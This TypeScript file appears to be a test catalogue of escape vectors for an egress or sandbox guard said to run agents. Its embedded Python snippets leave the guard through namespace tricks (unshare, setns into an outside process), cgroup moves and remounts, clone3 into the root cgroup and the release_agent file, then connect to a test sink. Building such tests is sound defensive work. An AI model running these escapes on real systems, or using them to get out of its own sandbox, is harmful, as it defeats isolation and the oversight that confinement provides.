/** Ways round by other namespaces and other cgroups: to be somebody whom nobody guards. */
import type { Vector } from "../vector.ts";

const CONNECT = `dial(T["sink4"], T["port"]["sink"])`;
/** What unshare refuses is no reason to stop: the connect behind it must fail for a reason of its own. */
const unshared = (name: string, what: string, flags: string): Vector => ({
  name,
  what: `makes ${what} of its own, then connects`,
  attack: `
step("unshare")
if LIBC.unshare(${flags}) < 0:
    raise OSError(ctypes.get_errno(), "unshare")
${CONNECT}`,
  closedBy: ["unlisted", "seccomp", "capability"],
  capability: "SYS_ADMIN",
});
const LEAVE = `
def leave(path):
    step("cgroup.procs")
    with open(path + "/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))
`;
const GUARDED_FILES = ["read-only", "hidden", "permission", "capability", "seccomp"];

export const NAMESPACES: readonly Vector[] = [
  unshared("user-namespace", "a user namespace", "0x10000000"),
  unshared("user-and-cgroup-namespace", "a user and a cgroup namespace", "0x10000000 | 0x02000000"),
  unshared("user-and-mount-namespace", "a user and a mount namespace", "0x10000000 | 0x00020000"),
  unshared("cgroup-namespace", "a cgroup namespace", "0x02000000"),
  {
    name: "other-network-namespace",
    what: "enters the network namespace of another process",
    attack: `
step("open")
handle = os.open(f"/proc/{T['netns']}/ns/net", os.O_RDONLY)
step("setns")
if LIBC.setns(handle, 0x40000000) < 0:
    raise OSError(ctypes.get_errno(), "setns")
${CONNECT}`,
    closedBy: ["unlisted", "no-listener", "seccomp", "capability"],
    capability: "SYS_ADMIN",
    places: ["root", "child"],
  },
  {
    name: "namespaces-of-outsider",
    what: "enters every namespace of a process outside, as nsenter does, and leaves its cgroup from there",
    attack: `${LEAVE}
step("open")
outside = T["outsider"]["pid"]
handles = [os.open(f"/proc/{outside}/ns/{name}", os.O_RDONLY) for name in ("cgroup", "ipc", "uts", "mnt")]
step("setns")
for handle in handles:
    if LIBC.setns(handle, 0) < 0:
        raise OSError(ctypes.get_errno(), "setns")
leave(T["cgroupRoot"])
${CONNECT}`,
    closedBy: ["scope", "capability"],
    scoped: true,
    capability: "SYS_ADMIN",
    places: ["root", "user", "child"],
  },
  {
    name: "own-network-namespace",
    what: "makes a network namespace, links it to the host's and sends through the host as its router",
    attack: `
import subprocess
ready, done = os.pipe(), os.pipe()
child = os.fork()
if child == 0:
    try:
        step("unshare")
        if LIBC.unshare(0x40000000) < 0:
            raise OSError(ctypes.get_errno(), "unshare")
        os.write(ready[1], b"1")
        os.read(done[0], 1)
        for words in ("addr add 198.18.9.2/24 dev byp1", "link set byp1 up", "route add default via 198.18.9.1"):
            subprocess.run(["ip", *words.split()], check=True, stderr=subprocess.DEVNULL)
        step("sendto")
        sock = datagram(T["sink4"])
        for _ in range(5):
            sock.sendto(TOKEN, (T["sink4"], T["port"]["sink"]))
            time.sleep(0.1)
    except OSError as error:
        say(failed=STEP[0], errno=errno.errorcode.get(error.errno, "?"), error=str(error))
    os._exit(0)
os.close(ready[1])
if not os.read(ready[0], 1):
    os._exit(0)
for words in (f"link add byp0 type veth peer name byp1 netns {child}", "addr add 198.18.9.1/24 dev byp0", "link set byp0 up"):
    subprocess.run(["ip", *words.split()])
open("/proc/sys/net/ipv4/ip_forward", "w").write("1")
os.write(done[1], b"1")
os.wait()
subprocess.run(["ip", "link", "delete", "byp0"], stderr=subprocess.DEVNULL)`,
    closedBy: ["unlisted", "seccomp", "capability"],
    capability: "SYS_ADMIN",
    places: ["root", "child"],
  },
];

export const CGROUPS: readonly Vector[] = [
  {
    name: "cgroup-root",
    what: "writes its id to cgroup.procs of the root cgroup, then connects",
    attack: `${LEAVE}
leave(T["cgroupRoot"])
${CONNECT}`,
    closedBy: GUARDED_FILES,
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-sibling",
    what: "makes a cgroup beside its own and moves there",
    attack: `${LEAVE}
path = T["cgroupRoot"] + "/" + T["token"]
step("mkdir")
os.mkdir(path)
try:
    leave(path)
    ${CONNECT}
finally:
    leave(T["cgroupRoot"])
    os.rmdir(path)`,
    closedBy: GUARDED_FILES,
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-child",
    what: "makes a cgroup below its own and moves there: a younger one",
    attack: `${LEAVE}
own = [line[3:].strip() for line in open("/proc/self/cgroup") if line.startswith("0::")][0]
path = T["cgroupRoot"] + own.rstrip("/") + "/" + T["token"]
step("mkdir")
os.mkdir(path)
try:
    leave(path)
    ${CONNECT}
finally:
    leave(os.path.dirname(path))
    os.rmdir(path)`,
    closedBy: ["unlisted", ...GUARDED_FILES],
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-clone-into",
    what: "forks by clone3(CLONE_INTO_CGROUP) into the root cgroup: no file is written, no mount looked at",
    attack: `
step("open")
handle = os.open(T["cgroupRoot"], os.O_RDONLY | os.O_DIRECTORY)
step("clone3")
arguments = ctypes.create_string_buffer(struct.pack("<11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, handle))
if call(435, arguments, 88) == 0:
    try:
        ${CONNECT}
    finally:
        os._exit(0)
os.wait()`,
    closedBy: GUARDED_FILES,
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-clone-by-process-root",
    what: "the same with a folder found under /proc/PID/root of an outsider, past a mount that hides it",
    attack: `
step("open")
handle = os.open(f"/proc/{T['outsider']['pid']}/root" + T["cgroupRoot"], os.O_RDONLY | os.O_DIRECTORY)
step("clone3")
arguments = ctypes.create_string_buffer(struct.pack("<11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, handle))
if call(435, arguments, 88) == 0:
    try:
        ${CONNECT}
    finally:
        os._exit(0)
os.wait()`,
    closedBy: ["scope", "capability"],
    scoped: true,
    capability: "SYS_PTRACE",
    places: ["root", "user", "child"],
  },
  {
    name: "cgroup-fresh-mount",
    what: "mounts the hierarchy anew where it may write, then leaves",
    attack: `${LEAVE}
folder = "/tmp/" + T["token"]
os.mkdir(folder)
step("mount")
if LIBC.mount(b"none", folder.encode(), b"cgroup2", 0, None) < 0:
    raise OSError(ctypes.get_errno(), "mount")
try:
    leave(folder)
    ${CONNECT}
finally:
    LIBC.umount2(folder.encode(), 2)
    os.rmdir(folder)`,
    closedBy: GUARDED_FILES,
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-remount",
    what: "makes the mount of the hierarchy writable again, then leaves",
    attack: `${LEAVE}
step("remount")
if LIBC.mount(b"none", T["cgroupRoot"].encode(), None, 32 | 4096, None) < 0:
    raise OSError(ctypes.get_errno(), "remount")
leave(T["cgroupRoot"])
${CONNECT}`,
    closedBy: GUARDED_FILES,
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-mount-in-user-namespace",
    what: "mounts the hierarchy in user, mount and cgroup namespaces of its own and moves to its top",
    attack: `${LEAVE}
step("unshare")
if LIBC.unshare(0x10000000 | 0x00020000 | 0x02000000) < 0:
    raise OSError(ctypes.get_errno(), "unshare")
folder = "/tmp/" + T["token"]
os.mkdir(folder)
step("mount")
if LIBC.mount(b"none", folder.encode(), b"cgroup2", 0, None) < 0:
    raise OSError(ctypes.get_errno(), "mount")
leave(folder)
${CONNECT}`,
    closedBy: ["unlisted", ...GUARDED_FILES],
    capability: "SYS_ADMIN",
  },
  {
    name: "cgroup-delegated",
    what: "as the owner of a subtree, moves from a tagged leaf to one beside it",
    attack: `${LEAVE}
leave(T["delegated"])
${CONNECT}`,
    start: "delegated",
    places: ["user"],
    closedBy: [],
    stated: [
      {
        limit: "a process that may write `cgroup.procs` of other cgroups",
        remedy: "tag the top of what is delegated, not a leaf; or start agents with `sallyport run`",
      },
    ],
  },
  {
    name: "cgroup-release-agent",
    what: "names a program for the kernel to run outside when a cgroup v1 hierarchy empties",
    attack: `
step("open release_agent")
import glob
paths = glob.glob("/sys/fs/cgroup/*/release_agent")
if not paths:
    raise FileNotFoundError(errno.ENOENT, "no cgroup v1 hierarchy")
with open(paths[0], "r+") as file:
    text = file.read()
    file.seek(0)
    file.write(text or "\\n")
made(paths[0])`,
    judge: "made",
    closedBy: GUARDED_FILES,
    capability: "SYS_ADMIN",
  },
];
